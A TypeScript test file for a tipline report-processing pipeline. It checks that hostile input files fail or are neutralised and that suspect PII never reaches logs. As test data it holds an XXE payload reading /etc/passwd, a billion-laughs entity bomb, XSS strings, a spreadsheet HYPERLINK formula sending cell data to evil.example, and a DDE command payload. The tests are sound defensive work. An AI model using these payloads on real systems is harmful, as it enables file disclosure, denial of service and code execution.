/**
 * Issue 10: a hostile-input corpus, each file with its documented outcome, all through ONE in-process
 * runtime; and PII hygiene: a batch with unique seeded identifiers, then every log line searched for them.
 * Files are built here (the 20 MB line in a temp dir), never committed.
 *
 * Documented outcomes (docs/design.md §4):
 *  - unreadable files (XXE, billion laughs, random bytes, truncated gzip, zero bytes) → the run FAILS, the
 *    batch record is FAILED with a reason naming the file, and HQ gets one failure email;
 *  - bad records inside a readable file → the run SUCCEEDS, the bad records are rejected and counted, and
 *    received = valid + rejected;
 *  - unknown XML elements are ignored; HTML and spreadsheet formulas in text fields never reach the mail
 *    unescaped, nor the district CSV as live formulas.
 */
import { createWriteStream } from 'node:fs';
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { finished } from 'node:stream/promises';
import { GetObjectCommand, ListObjectsV2Command } from '@aws-sdk/client-s3';
import { startLocalRuntime, type LocalRuntime } from '../../local/runtime.js';
import { batchRecord, batchIdOfExecution, summarizeExecution } from '../../cli/run-summary.js';
import { mulberry32 } from '../../local/faults/decider.js';
import { generateReports } from '../../shared/generate/generate-reports.js';
import { writeBatch } from '../../shared/generate/write-batch.js';
import { PROJECT_ROOT } from '../support/cli.js';

const T = 150_000;
let work: string;
let dataDir: string;
let runtime: LocalRuntime;

interface Outcome {
  status: string;
  batchId: string;
  error?: { name: string; message: string };
  counts: { received: number; valid: number; rejected: number; actionable: number };
  mail: { subject: string; html: string; text: string; to: string }[];
}

async function mailSince(seen: Set<string>): Promise<Outcome['mail']> {
  const dir = path.join(dataDir, 'mail');
  const names = (await readdir(dir).catch(() => [] as string[])).filter((f) => f.endsWith('.json') && !seen.has(f)).sort();
  names.forEach((n) => seen.add(n));
  return Promise.all(names.map(async (n) => {
    const m = JSON.parse(await readFile(path.join(dir, n), 'utf-8')) as { subject: string; destination: { to: string[] }; body: { html?: string; text?: string } };
    return { subject: m.subject, to: m.destination.to.join(','), html: m.body.html ?? '', text: m.body.text ?? '' };
  }));
}

const seenMail = new Set<string>();
async function run(name: string, body: Buffer | string): Promise<Outcome> {
  const file = path.join(work, name);
  await writeFile(file, body);
  const record = await runtime.runFile(file);
  const summary = await summarizeExecution(runtime, record);
  const batch = await batchRecord(runtime, batchIdOfExecution(record));
  return {
    status: batch?.status ?? record.status,
    batchId: summary.batchId,
    error: batch?.error,
    counts: summary.counts,
    mail: await mailSince(seenMail),
  };
}

const example = JSON.parse(await readFile(path.join(PROJECT_ROOT, 'test/fixtures/example-batch.json'), 'utf-8')) as { reports: Record<string, unknown>[] };
const exampleXml = await readFile(path.join(PROJECT_ROOT, 'test/fixtures/example-batch.xml'), 'utf-8');
const exampleCsv = await readFile(path.join(PROJECT_ROOT, 'test/fixtures/example-batch.csv'), 'utf-8');

/** Reports with fresh IDs, so no file of the corpus is a duplicate of another. */
let nextId = 960_000_000;
// eslint-disable-next-line @typescript-eslint/no-explicit-any
const freshReports = (): Record<string, any>[] => example.reports.map((r) => ({ ...structuredClone(r), reportId: String(nextId++) }));
const jsonBatch = (reports: unknown[]) => JSON.stringify({ batchRef: 'HOSTILE', generatedAt: '2026-11-28T06:00:00Z', reports });
const renumberXml = (xml: string) => xml.replace(/reportId="\d+"/g, () => `reportId="${nextId++}"`);

beforeAll(async () => {
  work = await mkdtemp(path.join(tmpdir(), 'tipline-hostile-'));
  dataDir = path.join(work, 'data');
  runtime = await startLocalRuntime({ dataDir, retryPauseMs: 5, faults: {} });
}, T);

afterAll(async () => {
  await runtime?.stop();
  if (!process.env.TIPLINE_KEEP_TEST_DIRS) await rm(work, { recursive: true, force: true });
}, 60_000);

function expectUnreadable(o: Outcome, file: string, reason: RegExp): void {
  expect(o.status).toBe('FAILED');
  expect(o.error?.message).toContain(file);
  expect(o.error?.message).toMatch(reason);
  const failure = o.mail.filter((m) => m.subject.startsWith('[Tipline] FAILED'));
  expect(failure).toHaveLength(1);
  expect(failure[0]!.subject).toContain(o.batchId);
  expect(o.mail).toHaveLength(1);
}

describe('unreadable files fail the run, named, with an HQ failure email', () => {
  test('XXE (external entity in a DTD)', async () => {
    const xml = exampleXml.replace('<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE tiplineBatch [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
      .replace('<companyName>ExampleChat</companyName>', '<companyName>&xxe;</companyName>');
    const o = await run('xxe.xml', renumberXml(xml));
    expectUnreadable(o, 'xxe.xml', /DTD|DOCTYPE|entit/i);
    expect(JSON.stringify(o)).not.toContain('root:x:0');
  }, T);

  test('billion laughs', async () => {
    const lol = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`)].join('\n');
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${lol}\n]>\n<tiplineBatch batchRef="x"><cyberTiplineReport reportId="${nextId++}"><report><incidentSummary><incidentType>&lol9;</incidentType></incidentSummary></report></cyberTiplineReport></tiplineBatch>`;
    const o = await run('billion-laughs.xml', xml);
    expectUnreadable(o, 'billion-laughs.xml', /DTD|DOCTYPE|entit/i);
  }, T);

  test('random bytes', async () => {
    const next = mulberry32(99);
    const bytes = Buffer.from(Array.from({ length: 64 * 1024 }, () => Math.floor(next() * 256)));
    const o = await run('random.bin', bytes);
    expectUnreadable(o, 'random.bin', /format|not a|unknown|recogni/i);
  }, T);

  test('truncated gzip', async () => {
    const gz = gzipSync(Buffer.from(jsonBatch(freshReports())));
    const o = await run('truncated.json.gz', gz.subarray(0, Math.floor(gz.length / 2)));
    expectUnreadable(o, 'truncated.json.gz', /gzip|truncat|unexpected end|compress/i);
  }, T);

  test('zero-byte file', async () => {
    const o = await run('empty.json', '');
    expectUnreadable(o, 'empty.json', /empty|format|no data|0 bytes/i);
  }, T);
});

describe('readable files with bad records succeed, with the bad ones rejected and counted', () => {
  const conserved = (o: Outcome) => expect(o.counts.received).toBe(o.counts.valid + o.counts.rejected);

  test('a 20 MB single line (JSONL)', async () => {
    const [good, big] = freshReports();
    const huge = { ...big!, report: { ...(big!.report as object), incidentSummary: { ...((big!.report as { incidentSummary: object }).incidentSummary), platform: 'x'.repeat(20 * 1024 * 1024) } } };
    const file = path.join(work, 'long-line.jsonl');
    const out = createWriteStream(file);
    out.write(`${JSON.stringify(good)}\n`);
    out.write(`${JSON.stringify(huge)}\n`);
    out.end();
    await finished(out);
    const record = await runtime.runFile(file);
    const summary = await summarizeExecution(runtime, record);
    await mailSince(seenMail);
    expect(record.status).toBe('SUCCEEDED');
    expect(summary.counts.received).toBe(2);
    expect(summary.counts.received).toBe(summary.counts.valid + summary.counts.rejected);
    // the good line is kept; the 20 MB one is rejected (text fields are limited to 1 MB), with its line number
    expect(summary.counts).toMatchObject({ valid: 1, rejected: 1 });
    const rejected = await runtime.s3.send(new GetObjectCommand({ Bucket: runtime.workBucket, Key: `batches/${summary.batchId}/rejected.jsonl` }));
    expect(JSON.parse((await rejected.Body!.transformToString('utf-8')).trim())).toMatchObject({ position: { line: 2 }, errors: [{ path: 'report.incidentSummary.platform' }] });
  }, T);

  test('CSV formula injection and HTML in text fields: escaped in the mail, inert in the district list', async () => {
    const lines = exampleCsv.trimEnd().split('\n');
    const header = lines[0]!.split(',');
    const col = (name: string) => header.indexOf(name);
    const rows = lines.slice(1).map((l) => l.replace(/^9000001\d\d/, () => String(nextId++)));
    const payload = '<script>alert(1)</script><img src=x onerror=alert(2)>';
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    // Every row gets HTML in the reporter company, the ISP and the escalation text, and a formula as the
    // screen name and display name. Cells are rewritten by position on a simple CSV (the fixture's quoted
    // incident type is the only quoted cell, and it comes before these columns).
    const patched = rows.map((row) => {
      const cells = row.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, ''));
      const set = (name: string, value: string) => (cells[col(name)] = `"${value.replace(/"/g, '""')}"`);
      set('Reporter Company', `Evil${payload}`);
      set('Geo ISP', `ISP${payload}`);
      set('Screen Name', formula);
      set('Display Name', '+cmd|\' /C calc\'!A0');
      if (cells[col('Escalate To High Priority')]) set('Escalate To High Priority', `urgent ${payload}`);
      return cells.slice(0, header.length).join(',');
    });
    const o = await run('formula-html.csv', [lines[0], ...patched].join('\n') + '\n');
    expect(o.status).toBe('SUCCEEDED');
    conserved(o);
    expect(o.counts.actionable).toBeGreaterThan(0);
    expect(o.mail.length).toBeGreaterThan(1);
    for (const m of o.mail) {
      expect(m.html).not.toMatch(/<script|<img/i);
      expect(m.html + m.text).not.toContain('=HYPERLINK(');
    }
    // district lists: no cell starts a live formula
    const listed = await runtime.s3.send(new ListObjectsV2Command({ Bucket: runtime.workBucket, Prefix: `batches/${o.batchId}/` }));
    const csvKeys = (listed.Contents ?? []).map((c) => c.Key!).filter((k) => k.endsWith('.csv'));
    expect(csvKeys.length).toBeGreaterThan(0);
    for (const key of csvKeys) {
      const text = (await (await runtime.s3.send(new GetObjectCommand({ Bucket: runtime.workBucket, Key: key }))).Body!.transformToString('utf-8'));
      expect(text).not.toMatch(/(^|,)"?[=+@]/m);
    }
  }, T);

  test('unknown XML elements are ignored', async () => {
    const xml = renumberXml(exampleXml)
      .replace(/<report>/g, '<report><futureElement kind="x"><nested>1</nested></futureElement>')
      .replace(/<\/cyberTiplineReport>/g, '<vendorExtension>ignored</vendorExtension></cyberTiplineReport>');
    const o = await run('unknown-elements.xml', xml);
    expect(o.status).toBe('SUCCEEDED');
    expect(o.counts).toMatchObject({ received: 7, valid: 7, rejected: 0 });
  }, T);

  test('invalid IPs', async () => {
    const reports = freshReports();
    const bad = ['999.1.1.1', 'not-an-ip', '1.2.3', '::zz', ''];
    reports.forEach((r, i) => {
      const people = (r.report as { personOrUserReported?: { ipCaptureEvent?: { ipAddress: string }[] }[] }).personOrUserReported ?? [];
      for (const p of people) for (const e of p.ipCaptureEvent ?? []) e.ipAddress = bad[i % bad.length]!;
    });
    const o = await run('invalid-ips.json', jsonBatch(reports));
    expect(o.status).toBe('SUCCEEDED');
    conserved(o);
    // a malformed IP is kept as evidence but is no identifier (the report stays valid); an empty
    // ipAddress is a schema error, so that one report is rejected
    expect(o.counts).toMatchObject({ received: 7, valid: 6, rejected: 1 });
    const rejected = await runtime.s3.send(new GetObjectCommand({ Bucket: runtime.workBucket, Key: `batches/${o.batchId}/rejected.jsonl` }));
    expect((await rejected.Body!.transformToString('utf-8')).trim()).toMatch(/ipCaptureEvent\[0\]\.ipAddress/);
  }, T);

  test('mixed good and bad records', async () => {
    const good = freshReports();
    const bad = [
      { reportId: 'not-digits', report: { incidentSummary: { incidentType: 'Child Sex Tourism', incidentDateTime: '2026-09-30T18:22:11+05:30' } } },
      { reportId: String(nextId++), report: { incidentSummary: { incidentType: 'Not A Real Type', incidentDateTime: '2026-09-30T18:22:11+05:30' } } },
      { reportId: String(nextId++), report: { incidentSummary: { incidentType: 'Child Sex Tourism' } } },
      { reportId: String(nextId++) },
      42,
    ];
    const o = await run('mixed.json', jsonBatch([good[0], bad[0], good[1], bad[1], bad[2], good[2], bad[3], bad[4], ...good.slice(3)]));
    expect(o.status).toBe('SUCCEEDED');
    expect(o.counts).toMatchObject({ received: 12, valid: 7, rejected: 5 });
    const rejected = await runtime.s3.send(new GetObjectCommand({ Bucket: runtime.workBucket, Key: `batches/${o.batchId}/rejected.jsonl` }));
    expect(((await rejected.Body!.transformToString('utf-8')).trim().split('\n'))).toHaveLength(5);
  }, T);
});

test('PII hygiene: no suspect email, phone or IP of a run appears in any log line', async () => {
  const reports = [...generateReports({ reports: 40, seed: 4242, reportIdStart: 970_000_000 })];
  const secrets = new Set<string>();
  for (const r of reports) {
    const people = ((r.report as Record<string, unknown>)?.personOrUserReported ?? []) as Record<string, unknown>[];
    for (const p of people) {
      const person = (p.personOrUserReportedPerson ?? {}) as { email?: (string | { value: string })[]; phone?: (string | { value: string; countryCallingCode?: string })[] };
      for (const e of person.email ?? []) secrets.add(typeof e === 'string' ? e : e.value);
      for (const ph of person.phone ?? []) {
        const v = typeof ph === 'string' ? ph : ph.value;
        secrets.add(v);
        secrets.add(v.replace(/\D/g, '').slice(-10));
      }
      for (const e of (p.ipCaptureEvent ?? []) as { ipAddress?: string }[]) if (e.ipAddress) secrets.add(e.ipAddress);
    }
    for (const g of (r.ncmecGeolocation ?? []) as { ipAddress?: string }[]) if (g.ipAddress) secrets.add(g.ipAddress);
  }
  secrets.delete('');
  expect(secrets.size).toBeGreaterThan(40);
  const file = path.join(work, 'pii.jsonl');
  const out = createWriteStream(file);
  await writeBatch('jsonl', reports, out, { batchRef: 'PII', generatedAt: '2026-11-28T06:00:00Z' });
  out.end();
  await finished(out);
  const record = await runtime.runFile(file);
  expect(record.status).toBe('SUCCEEDED');
  await new Promise((resolve) => setTimeout(resolve, 200)); // let the log stream flush
  const log = await readFile(path.join(dataDir, 'logs', 'lambda.log'), 'utf-8');
  expect(log.length).toBeGreaterThan(0);
  const leaked = [...secrets].filter((s) => log.includes(s));
  expect(leaked).toEqual([]);
  // nor in the state machine's history (state inputs and outputs carry keys and counts only)
  const history = JSON.stringify(record.events);
  expect([...secrets].filter((s) => history.includes(s))).toEqual([]);
}, T);
